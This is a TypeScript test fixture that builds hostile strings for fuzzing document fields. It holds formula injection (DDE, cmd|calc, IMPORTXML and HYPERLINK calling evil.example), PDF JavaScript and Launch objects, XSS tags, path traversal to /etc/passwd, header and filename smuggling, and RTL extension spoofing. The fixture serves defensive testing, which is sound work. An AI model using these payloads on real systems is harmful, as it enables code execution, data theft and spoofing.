// Hostile texts: injections of formulas, PDF objects, markup, paths and headers, for any field of a document.

const starts = [
  ...['=', '+', '-', '@', '\t', '\r', '\n', '\u0000', '\r\n', '＝', '＋', '－', '＠', "'", '"', ';', '|'],
  ...[' ', '\u00a0', '\u200b', '\ufeff', '\u202e', '\u2028', '\u0085', '\u000b', '%', '\\', '('],
]

const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example";"сюда")',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"1")',
  '"";=1+1',
  'a;b;c',
  'a\r\nb;=1',
  'a\tb',
  ') Tj /JS (app.alert(1)) /OpenAction << /S /JavaScript >>',
  'endstream endobj 9 0 obj << /URI (http://evil.example) >>',
  '>> /AcroForm << /XFA 9 0 R >> /AA << /O 9 0 R >>',
  '%PDF-1.7 trailer << /Root 1 0 R >>',
  '\\)\\( /Launch',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '</t></is></c><c r="A9" t="str"><f>1+1</f></c>',
  ']]><f>1+1</f><![CDATA[',
  '&lt;b&gt;&#x3d;1',
  'КонецДокумента',
  '\r\nСекцияДокумент=Платежное поручение\r\nНомер=1',
  '\nКонецФайла\n',
  '../../etc/passwd',
  'a";filename="b.exe',
  'a\r\nSet-Cookie: sid=1',
  '\u202etxt.exe',
  'Ө ң ү 🙂 e\u0301\u0301',
  '%s%n%00',
]

const ends = ['', '\r\n=2', ' ']

/** Each way to begin before each thing to do before each way to go on: all differ. */
export const hostile: readonly string[] = starts.flatMap(start =>
  payloads.flatMap(payload => ends.map(end => `${start}${payload}${end}`)),
)
